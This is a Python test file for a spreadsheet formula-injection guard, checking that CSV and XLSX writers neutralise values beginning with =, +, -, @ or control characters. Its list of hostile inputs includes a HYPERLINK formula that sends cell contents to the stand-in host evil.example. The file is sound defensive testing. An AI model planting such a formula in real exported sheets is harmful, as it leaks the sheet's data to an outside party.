"""Formula injection: the one helper every CSV/XLSX writer uses, and what it writes."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from deadline_watch.domain.sheet_cells import formula_like, neutralise, restore_csv_text

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)",
           "\t=1", "\r=1", "'=1", "''+x"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_is_prefixed_and_restored_exactly(text):
    written = neutralise(text)
    assert written.startswith("'") and written[1:] == text
    assert restore_csv_text(written) == text


@pytest.mark.parametrize("value", ["天府软件园", "GX-1", "a=b", "", "'quoted'", 5, None, 1.5])
def test_harmless_values_pass_unchanged(value):
    assert neutralise(value) == value
    if isinstance(value, str):
        assert restore_csv_text(value) == value and not formula_like(value)


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_text_is_a_string_cell_never_a_formula(text):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append([neutralise(text, sheet), neutralise("plain", sheet)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue()))["s"]["A1"]
    assert cell.data_type == "s" and cell.value == text
